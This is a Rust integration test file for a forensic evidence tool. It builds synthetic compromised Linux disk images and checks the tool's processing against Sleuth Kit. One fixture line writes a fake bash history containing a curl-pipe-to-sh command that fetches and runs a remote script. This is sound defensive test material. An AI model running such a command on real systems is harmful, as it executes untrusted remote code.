//! `custody process` end to end, as a responder runs it: a disk made by
//! the tools that make real disks is acquired, processed in place from the
//! store, and its derived artefacts, bodyfile, ledger entries and timeline
//! rows are checked against The Sleuth Kit (`fls`, `icat`) and the raw
//! disk. Tools come from `scripts/emulators.sh`; a missing one fails.

use std::collections::BTreeSet;
use std::os::unix::fs::FileExt as _;
use std::path::{Path, PathBuf};
use std::process::Command;

use crate::common::{Home, stderr};
use crate::process::mmls;

const MIB: u64 = 1 << 20;

/// Runs a tool that makes or reads disks; its stdout. A missing tool fails.
pub fn run(cmd: &str, args: &[&str]) -> Vec<u8> {
    let out = Command::new(cmd)
        .args(args)
        .env("MTOOLS_SKIP_CHECK", "1")
        .output()
        .unwrap_or_else(|e| panic!("{cmd} is needed (scripts/emulators.sh installs it): {e}"));
    assert!(
        out.status.success(),
        "{cmd} {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    out.stdout
}

const LOGIN: &str = "Dec  1 09:58:12 web-1 sshd[4242]: Accepted password for root from 198.51.100.23 port 50022 ssh2\n";

/// An ext4 root file system of `mib` MiB in `dir/name`, as a compromised
/// Linux server's might be: its logs, accounts and a history, and a file
/// the attacker deleted.
fn root_fs(dir: &Path, name: &str, mib: u64) -> PathBuf {
    let root = dir.join(format!("{name}.d"));
    for d in ["var/log", "etc", "root", "tmp", "home/alice/.ssh"] {
        std::fs::create_dir_all(root.join(d)).unwrap();
    }
    std::fs::write(root.join("var/log/auth.log"), LOGIN).unwrap();
    std::fs::write(
        root.join("etc/passwd"),
        "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n",
    )
    .unwrap();
    std::fs::write(
        root.join("root/.bash_history"),
        "#1764583100\ncurl -s http://198.51.100.23/x.sh | sh\n",
    )
    .unwrap();
    std::fs::write(root.join("tmp/dropper"), vec![0x7fu8; 20_000]).unwrap();
    let ext = dir.join(name);
    std::fs::File::create(&ext)
        .unwrap()
        .set_len(mib * MIB)
        .unwrap();
    run(
        "mkfs.ext4",
        &["-q", "-d", root.to_str().unwrap(), ext.to_str().unwrap()],
    );
    // The attacker's dropper, deleted: its name and inode stay readable.
    run(
        "debugfs",
        &["-w", "-R", "rm /tmp/dropper", ext.to_str().unwrap()],
    );
    ext
}

/// A GPT disk as a compromised Linux server's might be: the ext4 root of
/// [`root_fs`], an EFI system partition, and a LUKS volume.
fn user_disk(dir: &Path) -> PathBuf {
    let ext = root_fs(dir, "p1", 24);
    let fat = dir.join("p2");
    std::fs::File::create(&fat)
        .unwrap()
        .set_len(8 * MIB)
        .unwrap();
    run("mkfs.vfat", &[fat.to_str().unwrap()]);
    let efi = dir.join("bootx64.efi");
    std::fs::write(&efi, b"MZ not really a loader").unwrap();
    let fat_s = fat.to_str().unwrap();
    run("mmd", &["-i", fat_s, "::/EFI"]);
    run(
        "mcopy",
        &["-i", fat_s, efi.to_str().unwrap(), "::/EFI/bootx64.efi"],
    );
    let luks = dir.join("p3");
    std::fs::File::create(&luks)
        .unwrap()
        .set_len(8 * MIB)
        .unwrap();
    let key = dir.join("key");
    std::fs::write(&key, b"a test's key").unwrap();
    run(
        "cryptsetup",
        &[
            "luksFormat",
            "--batch-mode",
            "--type",
            "luks2",
            "--key-file",
            key.to_str().unwrap(),
            luks.to_str().unwrap(),
        ],
    );
    let disk = dir.join("disk.img");
    std::fs::File::create(&disk)
        .unwrap()
        .set_len(48 * MIB)
        .unwrap();
    run(
        "sgdisk",
        &[
            "-n1:2048:+24M",
            "-t1:8300",
            "-n2:0:+8M",
            "-t2:ef00",
            "-n3:0:+8M",
            "-t3:8309",
            disk.to_str().unwrap(),
        ],
    );
    let f = std::fs::OpenOptions::new().write(true).open(&disk).unwrap();
    for ((start, _), part) in mmls(&disk).iter().zip([&ext, &fat, &luks]) {
        f.write_all_at(&std::fs::read(part).unwrap(), start * 512)
            .unwrap();
    }
    disk
}

/// `fls -r -m /` of the partition at `sector`, TSK's virtual entries
/// (`$OrphanFiles`, `$MBR`, `$FAT1`...: types `v`, `V`) left out.
fn fls(disk: &Path, sector: u64, extra: &[&str]) -> BTreeSet<String> {
    let mut args = vec!["-r", "-m", "/"];
    args.extend_from_slice(extra);
    let offset = sector.to_string();
    args.extend_from_slice(&["-o", &offset, disk.to_str().unwrap()]);
    String::from_utf8_lossy(&run("fls", &args))
        .lines()
        .filter(|l| {
            let mode = l.split('|').nth(3).unwrap_or_default();
            !(mode.starts_with("V/") || mode.starts_with("v/"))
        })
        .map(str::to_owned)
        .collect()
}

/// `custody acquire file DISK --kind disk-image --case CASE [EXTRA...]`, its JSON.
pub fn acquire_image(home: &Home, disk: &Path, case: &str, extra: &[&str]) -> serde_json::Value {
    let mut args = vec![
        "acquire",
        "file",
        disk.to_str().unwrap(),
        "--kind",
        "disk-image",
        "--case",
        case,
    ];
    args.extend_from_slice(extra);
    home.json(&args)
}

/// `(path, artefact)` of each file a `process` report derived.
fn derived_of(report: &serde_json::Value) -> Vec<(String, String)> {
    report["images"][0]["derived"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| {
            (
                d["path"].as_str().unwrap().to_owned(),
                d["artefact"].as_str().unwrap().to_owned(),
            )
        })
        .collect()
}

fn artefacts(home: &Home, case: &str) -> Vec<serde_json::Value> {
    home.json(&["show", case]).as_array().unwrap().clone()
}

#[test]
fn a_processed_disk_gives_what_tsk_lists_and_every_derived_byte_leads_back_to_the_image() {
    let dir = tempfile::tempdir().unwrap();
    let disk = user_disk(dir.path());
    let parts = mmls(&disk);
    let home = Home::new();
    let acquired = acquire_image(&home, &disk, "PROC", &[]);
    let image = acquired["artefacts"][0]["id"].as_str().unwrap().to_owned();

    let report = home.json(&["process", "PROC"]);
    let volumes = report["images"][0]["volumes"].as_array().unwrap();
    let kinds: Vec<(&str, Option<&str>)> = volumes
        .iter()
        .map(|v| (v["name"].as_str().unwrap(), v["fs"].as_str()))
        .collect();
    assert_eq!(
        kinds,
        [("p1", Some("ext4")), ("p2", Some("fat")), ("p3", None)]
    );
    assert!(
        volumes[2]["note"].as_str().unwrap().contains("encrypted"),
        "the LUKS volume is named and left alone: {}",
        volumes[2]
    );
    let derived = derived_of(&report);
    let paths: BTreeSet<&str> = derived.iter().map(|(p, _)| p.as_str()).collect();
    assert_eq!(
        paths,
        BTreeSet::from([
            "p1:/var/log/auth.log",
            "p1:/etc/passwd",
            "p1:/root/.bash_history",
            "bodyfile"
        ])
    );

    // The bodyfile, read back through custody's own checks, against fls on
    // each partition: the same lines, deleted entries included.
    let bodyfile_id = &derived.iter().find(|(p, _)| p == "bodyfile").unwrap().1;
    let out = dir.path().join("bodyfile");
    let o = home.run(&["export", "PROC", bodyfile_id, "-o", out.to_str().unwrap()]);
    assert!(o.status.success(), "{}", stderr(&o));
    let body = std::fs::read_to_string(&out).unwrap();
    for (prefix, (start, _), extra) in [
        ("p1:", parts[0], &[][..]),
        ("p2:", parts[1], &["-z", "UTC"][..]),
    ] {
        let ours: BTreeSet<String> = body
            .lines()
            .filter_map(|l| {
                let (md5, rest) = l.split_once('|')?;
                Some(format!("{md5}|{}", rest.strip_prefix(prefix)?))
            })
            .collect();
        let theirs = fls(&disk, start, extra);
        assert_eq!(
            ours.symmetric_difference(&theirs).collect::<Vec<_>>(),
            Vec::<&String>::new(),
            "{prefix} custody's bodyfile against fls"
        );
        assert!(!ours.is_empty());
    }
    assert!(
        body.contains("p1:/tmp/dropper (deleted)"),
        "the deleted dropper is listed"
    );

    // Each derived file's signed entry names the parent, path, inode and
    // extents; the raw disk's bytes at those extents are the file as icat
    // reads it, and are what custody stored.
    let bundle = dir.path().join("bundle");
    let o = home.run(&[
        "ledger",
        "export",
        "--case",
        "PROC",
        "-o",
        bundle.to_str().unwrap(),
    ]);
    assert!(o.status.success(), "{}", stderr(&o));
    let entries: Vec<serde_json::Value> = std::fs::read_dir(bundle.join("entries"))
        .unwrap()
        .map(|e| serde_json::from_slice(&std::fs::read(e.unwrap().path()).unwrap()).unwrap())
        .collect();
    let raw = std::fs::read(&disk).unwrap();
    let inode_of = |path: &str| -> String {
        let line = fls(&disk, parts[0].0, &[])
            .into_iter()
            .find(|l| l.split('|').nth(1) == Some(path))
            .unwrap();
        line.split('|').nth(2).unwrap().to_owned()
    };
    for (path, id) in derived.iter().filter(|(p, _)| p != "bodyfile") {
        let inner = path.strip_prefix("p1:").unwrap();
        let e = entries
            .iter()
            .find(|e| e["action"] == "derived" && e["evidence"]["artefact"] == id.as_str())
            .unwrap_or_else(|| panic!("no derived entry for {path}"));
        assert_eq!(e["detail"]["parent"], image.as_str());
        assert_eq!(e["detail"]["path"], inner);
        assert_eq!(e["detail"]["inode"].to_string(), inode_of(inner));
        let mut bytes = Vec::new();
        for x in e["detail"]["extents"].as_array().unwrap() {
            let (at, len) = (
                x[1].as_u64().unwrap() as usize,
                x[2].as_u64().unwrap() as usize,
            );
            bytes.extend_from_slice(&raw[at..at + len]);
        }
        let icat = run(
            "icat",
            &[
                "-o",
                &parts[0].0.to_string(),
                disk.to_str().unwrap(),
                &inode_of(inner),
            ],
        );
        assert_eq!(bytes, icat, "{path}: the extents hold the file");
        let out = dir.path().join("derived");
        let _ = std::fs::remove_file(&out);
        let o = home.run(&["export", "PROC", id, "-o", out.to_str().unwrap()]);
        assert!(o.status.success(), "{}", stderr(&o));
        assert_eq!(std::fs::read(&out).unwrap(), icat, "{path}: stored as read");
    }

    // The login in auth.log is on the timeline, leading back to the derived
    // artefact and its line.
    let auth_id = &derived
        .iter()
        .find(|(p, _)| p.ends_with("auth.log"))
        .unwrap()
        .1;
    let tl = home.json(&["timeline", "PROC", "source:host"]);
    let row = &tl["rows"][0];
    assert_eq!(row["action"], "sshd.accepted");
    assert_eq!(row["ip"], "198.51.100.23");
    assert_eq!(row["artefact"], auth_id.as_str());
    assert_eq!(row["member"], "/var/log/auth.log");
    let fs_rows = home.json(&["timeline", "PROC", "source:fs", "--limit", "1000"]);
    assert!(
        fs_rows["rows"]
            .as_array()
            .unwrap()
            .iter()
            .any(|r| r["target"] == "p1:/tmp/dropper" && r["outcome"] == "deleted"),
        "the deleted file is a row"
    );

    let o = home.run(&["verify", "PROC"]);
    assert!(
        o.status.success(),
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        stderr(&o)
    );

    // Again: nothing new is derived.
    let again = home.json(&["process", "PROC"]);
    assert_eq!(again["images"][0]["derived"].as_array().unwrap().len(), 0);
    assert_eq!(again["images"][0]["already"], 3);
    assert_eq!(artefacts(&home, "PROC").len(), 5);

    // A manifest whose extents were moved no longer matches its parent's
    // bytes nor its signed entry: verification fails, naming it.
    let manifest = home
        .store_dir()
        .join(format!("cases/PROC/manifests/{auth_id}.json"));
    let mut m: serde_json::Value =
        serde_json::from_slice(&std::fs::read(&manifest).unwrap()).unwrap();
    let at = m["derived"]["extents"][0][1].as_u64().unwrap();
    m["derived"]["extents"][0][1] = serde_json::json!(at + 4096);
    std::fs::write(&manifest, serde_json::to_vec(&m).unwrap()).unwrap();
    let o = home.run(&["verify", "PROC"]);
    let text = String::from_utf8_lossy(&o.stdout).into_owned();
    assert_eq!(o.status.code(), Some(1), "{text}");
    assert!(
        text.contains(&format!("FAILED  {auth_id}: derived: re-read")),
        "{text}"
    );
    assert!(text.contains("differs from ledger entry"), "{text}");
}

#[test]
fn the_quick_depth_takes_the_same_files_and_no_bodyfile() {
    let dir = tempfile::tempdir().unwrap();
    let disk = user_disk(dir.path());
    let home = Home::new();
    acquire_image(&home, &disk, "Q", &[]);
    let report = home.json(&["process", "Q", "--depth", "quick"]);
    let paths: BTreeSet<&str> = report["images"][0]["derived"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| d["path"].as_str().unwrap())
        .collect();
    assert_eq!(
        paths,
        BTreeSet::from([
            "p1:/var/log/auth.log",
            "p1:/etc/passwd",
            "p1:/root/.bash_history"
        ])
    );
    let tl = home.json(&["timeline", "Q", "source:fs"]);
    assert_eq!(tl["total"], 0, "no file-system rows at quick depth");
    // And `acquire file --process` does the same in one go.
    let both = acquire_image(&home, &disk, "Q2", &["--process", "quick"]);
    assert!(both.to_string().contains("auth.log"), "{both}");
}

#[test]
fn a_cut_image_and_a_file_that_is_no_disk_are_reported_and_nothing_panics() {
    let dir = tempfile::tempdir().unwrap();
    let disk = user_disk(dir.path());
    let parts = mmls(&disk);
    // Cut inside the ext4 partition, past its first groups.
    let cut = dir.path().join("cut.img");
    let raw = std::fs::read(&disk).unwrap();
    let at = (parts[0].0 * 512 + 6 * MIB) as usize;
    std::fs::write(&cut, &raw[..at]).unwrap();
    let not_disk = dir.path().join("notes.txt");
    std::fs::write(&not_disk, "a responder's notes, not a disk\n").unwrap();
    let home = Home::new();
    acquire_image(&home, &cut, "CUT", &[]);
    home.json(&[
        "acquire",
        "file",
        not_disk.to_str().unwrap(),
        "--case",
        "CUT",
    ]);
    let o = home.run(&["--json", "process", "CUT"]);
    assert!(o.status.success(), "{}", stderr(&o));
    let report: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    let text = report.to_string();
    assert!(
        report["skipped"][0]
            .as_str()
            .unwrap()
            .contains("holds no volume custody reads"),
        "{text}"
    );
    // The table points past the cut: said, with where.
    let problems: Vec<String> = report["images"][0]["problems"]
        .as_array()
        .unwrap()
        .iter()
        .chain(
            report["images"][0]["volumes"]
                .as_array()
                .unwrap()
                .iter()
                .flat_map(|v| v["problems"].as_array().unwrap()),
        )
        .map(|p| p.as_str().unwrap().to_owned())
        .collect();
    assert!(!problems.is_empty(), "{text}");
    assert!(
        problems
            .iter()
            .any(|p| p.contains("byte") || p.contains("inode")),
        "{problems:?}"
    );
    let o = home.run(&["verify", "CUT"]);
    assert!(o.status.success(), "{}", stderr(&o));
}

/// The same disk in an S3 bucket (moto): read in place through ranged GETs,
/// the derived files and the bodyfile go to the same bucket, and the case
/// verifies with each derived file re-read from the image there.
#[test]
fn a_disk_in_an_s3_store_is_processed_in_place_through_ranged_reads() {
    let Some(endpoint) = crate::common::emulator("CUSTODY_TEST_S3_ENDPOINT") else {
        return;
    };
    let rt = tokio::runtime::Runtime::new().unwrap();
    let bucket = rt.block_on(async { crate::s3::bucket(&crate::s3::client(&endpoint)).await });
    let dir = tempfile::tempdir().unwrap();
    let disk = user_disk(dir.path());
    let home = Home::new();
    let store = format!("s3://{bucket}/custody");
    let run = |args: &[&str]| {
        let mut all = vec!["--store", &store, "--endpoint-url", &endpoint];
        all.extend_from_slice(args);
        home.cmd()
            .env("AWS_ACCESS_KEY_ID", "testing")
            .env("AWS_SECRET_ACCESS_KEY", "testing")
            .env("AWS_REGION", "us-east-1")
            .args(&all)
            .output()
            .unwrap()
    };
    let o = run(&[
        "acquire",
        "file",
        disk.to_str().unwrap(),
        "--kind",
        "disk-image",
        "--case",
        "S3P",
    ]);
    assert!(o.status.success(), "{}", stderr(&o));
    let o = run(&["--json", "process", "S3P", "--depth", "quick"]);
    assert!(o.status.success(), "{}", stderr(&o));
    let report: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(
        report["images"][0]["derived"].as_array().unwrap().len(),
        3,
        "{report}"
    );
    let o = run(&["verify", "S3P"]);
    assert!(
        o.status.success(),
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        stderr(&o)
    );
    let o = run(&["--json", "timeline", "S3P", "source:host"]);
    let tl: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(tl["rows"][0]["action"], "sshd.accepted", "{tl}");
}

#[path = "../../crates/custody-disk/tests/support/lvm.rs"]
mod lvm_support;

/// A disk that is one LVM physical volume with no partition table, as LVM
/// is often laid on a whole EBS volume: LV `root` (in two segments, around
/// LV `swap`) holds the ext4 root of [`root_fs`], written where LVM's own
/// tools place it (there is no device-mapper here to mount it).
#[test]
fn a_logical_volume_is_processed_in_place_like_a_partition() {
    let pv = lvm_support::Pv::new("custody_process_lvm", 40);
    pv.lvcreate("root", "8M");
    pv.lvcreate("swap", "4M");
    lvm_support::lvm(&["lvextend", "-L", "16M", "custody_process_lvm/root"]);
    let map = lvm_support::mapping(&pv);
    assert_eq!(map.iter().filter(|m| m.lv == "root").count(), 2, "{map:?}");
    let ext = root_fs(pv.dir.path(), "root.img", 16);
    lvm_support::write_lv(&pv, &map, "root", &std::fs::read(&ext).unwrap());

    let home = Home::new();
    acquire_image(&home, &pv.file, "LVM", &[]);
    let report = home.json(&["process", "LVM"]);
    let volumes: Vec<(&str, Option<&str>)> = report["images"][0]["volumes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| (v["name"].as_str().unwrap(), v["fs"].as_str()))
        .collect();
    assert!(
        volumes.contains(&("custody_process_lvm/root", Some("ext4"))),
        "{volumes:?}"
    );
    let derived = derived_of(&report);
    let paths: BTreeSet<&str> = derived.iter().map(|(p, _)| p.as_str()).collect();
    // Named by their logical volume, as partitions are by theirs.
    assert_eq!(
        paths,
        BTreeSet::from([
            "custody_process_lvm/root:/var/log/auth.log",
            "custody_process_lvm/root:/etc/passwd",
            "custody_process_lvm/root:/root/.bash_history",
            "bodyfile"
        ])
    );

    // The bodyfile against fls on the file system before LVM placed it.
    let bodyfile_id = &derived.iter().find(|(p, _)| p == "bodyfile").unwrap().1;
    let out = pv.dir.path().join("bodyfile");
    let o = home.run(&["export", "LVM", bodyfile_id, "-o", out.to_str().unwrap()]);
    assert!(o.status.success(), "{}", stderr(&o));
    let ours: BTreeSet<String> = std::fs::read_to_string(&out)
        .unwrap()
        .lines()
        .filter_map(|l| {
            let (md5, rest) = l.split_once('|')?;
            Some(format!(
                "{md5}|{}",
                rest.strip_prefix("custody_process_lvm/root:")?
            ))
        })
        .collect();
    let theirs = fls(&ext, 0, &[]);
    assert_eq!(
        ours.symmetric_difference(&theirs).collect::<Vec<_>>(),
        Vec::<&String>::new(),
        "custody's bodyfile of the LV against fls"
    );
    assert!(ours.iter().any(|l| l.contains("/tmp/dropper (deleted)")));

    // The login is on the timeline, and the derived bytes re-verify against
    // the image through the LV's two segments.
    let tl = home.json(&["timeline", "LVM", "source:host"]);
    assert_eq!(tl["rows"][0]["action"], "sshd.accepted");
    assert_eq!(tl["rows"][0]["ip"], "198.51.100.23");
    let o = home.run(&["verify", "LVM"]);
    assert!(o.status.success(), "{}", stderr(&o));

    // The bodyfile's rows were loaded as the walk wrote it; loading the
    // stored bodyfile again from the evidence gives the same rows.
    let fs_rows = |home: &Home| -> Vec<serde_json::Value> {
        let tl = home.json(&["timeline", "LVM", "source:fs", "--limit", "10000"]);
        let mut rows: Vec<serde_json::Value> = tl["rows"]
            .as_array()
            .unwrap()
            .iter()
            .map(|r| {
                serde_json::json!([
                    r["time"],
                    r["target"],
                    r["action"],
                    r["outcome"],
                    r["artefact"],
                    r["locator"],
                    r["attributes"]
                ])
            })
            .collect();
        rows.sort_by_key(|r| r.to_string());
        rows
    };
    let streamed = fs_rows(&home);
    assert!(streamed.len() >= ours.len(), "{} rows", streamed.len());
    let o = home.run(&["logs", "index", "LVM", "--rebuild"]);
    assert!(o.status.success(), "{}", stderr(&o));
    assert_eq!(fs_rows(&home), streamed);
}
